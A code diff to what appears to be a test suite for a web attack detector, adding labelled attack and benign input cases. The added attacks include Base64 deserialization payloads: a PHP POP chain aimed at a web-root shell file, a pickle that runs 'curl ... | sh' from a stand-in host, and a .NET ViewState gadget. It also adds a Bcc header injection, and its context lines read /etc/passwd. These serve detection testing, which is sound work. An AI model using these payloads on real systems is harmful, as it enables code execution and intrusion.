@@ -303,6 +303,22 @@ export const ATTACKS: DetectorCase[] = [
   q("a protocol-relative URL spelling loopback", "//127.0.0.1.nip.io/admin", "934190"),
   q("JavaScript injected after a quote breakout, calls glued", "admin';return(true);var xyz='a", "rce"),
   q("a command glued to a call, after a separator, with a path", "x; cat /etc/passwd", "rce"),
+  q(
+    "a PHP object (a POP chain) in Base64",
+    "TzozMToiR3V6emxlSHR0cFxDb29raWVcRmlsZUNvb2tpZUphciI6MTp7czo4OiJmaWxlbmFtZSI7czoyNzoiL3Zhci93d3cvaHRtbC9wdWJsaWMvc2gucGhwIjt9",
+    "933170",
+  ),
+  q(
+    "a pickle that runs a program, in Base64",
+    "Y3Bvc2l4CnN5c3RlbQooVmN1cmwgLXMgaHR0cDovL3gub2FzdC5leGFtcGxlL3Auc2ggfCBzaAp0Ui4=",
+    "934101",
+  ),
+  q(
+    "a .NET formatter gadget in Base64 (ViewState)",
+    "/wEyAE1pY3Jvc29mdC5WaXN1YWxTdHVkaW8uVGV4dC5Gb3JtYXR0aW5nLlRleHRGb3JtYXR0aW5nUnVuUHJvcGVydGllcwEAPE9iamVjdERhdGFQcm92aWRlciBNZXRob2ROYW1lPSJTdGFydCIvPg==",
+    "944300",
+  ),
+  j("a Bcc header added after an address", "new.hire@example.com\r\nBcc: everyone@example.com", "921140"),
   q("an aggregate ended by an SQL comment", "sum(1)--", "942151"),
   q("an arithmetic function left open (a probe)", "pow(", "942151"),
   q("a UNION cut short at its comment", "' union/", "942120"),
@@ -351,6 +367,9 @@ export const BENIGN: DetectorCase[] = [
   ].map((value): DetectorCase => ({ name: `referer ${value}`, where: "referer", value, hit: [] })),
   q("irish name", "O'Brien"),
   q("a search for a clause on a site that teaches SQL", "group by"),
+  j("a letter whose second line names its readers", "Dear team,\nTo: all staff in Lyon\nCc: HR"),
+  j("an address list, one a line", "ana@example.com\nbob@example.com"),
+  q("a Base64 image name that is no object", "{base64.b64encode(b'Order: 12 items, total 3:20 pm').decode()}"),
   q("a Java 9+ stack frame", "\tat java.base/java.lang.Thread.run(Thread.java:1583)"),
   j(
     "a log line and a frame naming its module",
